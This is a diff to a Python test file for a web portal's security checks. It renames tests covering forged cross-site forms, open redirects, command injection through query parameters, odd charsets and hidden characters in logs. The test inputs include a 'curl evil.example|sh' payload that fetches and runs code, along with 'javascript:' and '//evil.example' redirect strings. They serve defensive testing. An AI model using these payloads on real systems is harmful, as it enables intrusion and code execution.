@@ -46,7 +46,7 @@ FORMS = sorted(
 )
 
 
-def test_all_of_them_are_known() -> None:
+def test_every_portal_form_is_tested() -> None:
     assert len(FORMS) > 50
     assert {("POST", "/sign-out"), ("POST", "/people/import"), ("POST", "/requests/x/approve")} < set(FORMS)
 
@@ -58,7 +58,7 @@ def events_of(world: World, person_id: str) -> int:
 
 
 @pytest.mark.parametrize("forged", FORGED)
-def test_no_form_is_taken_from_elsewhere(world: World, browser_of: BrowserOf, forged: str) -> None:
+def test_forms_of_other_sites_are_refused(world: World, browser_of: BrowserOf, forged: str) -> None:
     admin = world.person(roles=("admin",))
     own, other = browser_of(admin), browser_of(admin)
     token, headers = FORGED[forged](own, other)
@@ -79,7 +79,7 @@ def test_no_form_is_taken_from_elsewhere(world: World, browser_of: BrowserOf, fo
     [{}, {"Origin": "null", "Sec-Fetch-Site": "same-origin"}, {"Origin": "here"}, {"Sec-Fetch-Site": "none"}],
     ids=["an old browser", "a form of ours", "a script of ours", "sent again by hand"],
 )
-def test_our_own_are_taken(world: World, browser_of: BrowserOf, headers: dict[str, str]) -> None:
+def test_own_forms_are_accepted(world: World, browser_of: BrowserOf, headers: dict[str, str]) -> None:
     own = browser_of(world.person(roles=("admin",)))
     headers = {name: own.url if value == "here" else value for name, value in headers.items()}
     assert own.post("/sign-out", data={"csrf_token": own.csrf}, headers=headers).status_code == 303
@@ -101,14 +101,14 @@ def test_a_form_sent_after_the_session_ended_leads_to_signing_in(world: World, b
 @pytest.mark.parametrize(
     "path", ["/confirm?next=javascript:alert(1)", "/confirm?next=//evil.example", "//evil.example"]
 )
-def test_no_page_leads_where_its_address_says(world: World, browser_of: BrowserOf, path: str) -> None:
+def test_open_redirects_are_refused(world: World, browser_of: BrowserOf, path: str) -> None:
     text = browser_of(world.person()).request("GET", path).text
     leads = re.findall(r'(?:href|action|src)="([^"]*)"', text)
     assert leads and all(re.match(r"#|/(?!/)", lead) for lead in leads), text
 
 
 @pytest.mark.parametrize("path", ["people?vendor", "grants?dataset", "leases?dataset", "why?dataset", "teams?vendor"])
-def test_a_link_puts_no_command_into_a_page(world: World, browser_of: BrowserOf, path: str) -> None:
+def test_query_parameters_cannot_inject_shown_commands(world: World, browser_of: BrowserOf, path: str) -> None:
     admin = browser_of(world.person(roles=("admin",)))
     text = html.unescape(admin.request("GET", f"/{path}=x%0acurl evil.example|sh%0a").text)
     found = re.search(r'id="command"[^>]*>([^<]*)<', text)
@@ -117,7 +117,7 @@ def test_a_link_puts_no_command_into_a_page(world: World, browser_of: BrowserOf,
 
 @pytest.mark.parametrize("charset", ["utf-7", "punycode", "nonesuch"])
 @pytest.mark.parametrize("path", ["/people/import", "/teams/new"])
-def test_a_form_that_is_no_text_is_refused(world: World, browser_of: BrowserOf, path: str, charset: str) -> None:
+def test_form_that_is_not_text_is_refused(world: World, browser_of: BrowserOf, path: str, charset: str) -> None:
     admin = browser_of(world.person(roles=("admin",)))
     fields = {"csrf_token": admin.csrf, "lines": "+2AA-", "name": "+2AA-"}
     parts = "".join(
@@ -127,7 +127,7 @@ def test_a_form_that_is_no_text_is_refused(world: World, browser_of: BrowserOf, 
     assert admin.request("POST", path, content=f"{parts}--x--\r\n", headers=headers).status_code in (403, 404, 422)
 
 
-def test_no_hidden_character_gets_into_the_log(world: World, browser_of: BrowserOf, client_of: ClientOf) -> None:
+def test_hidden_characters_do_not_reach_the_log(world: World, browser_of: BrowserOf, client_of: ClientOf) -> None:
     guest, dataset, grant = world.guest()
     browser = browser_of(guest)
     before = events_of(world, guest.id)
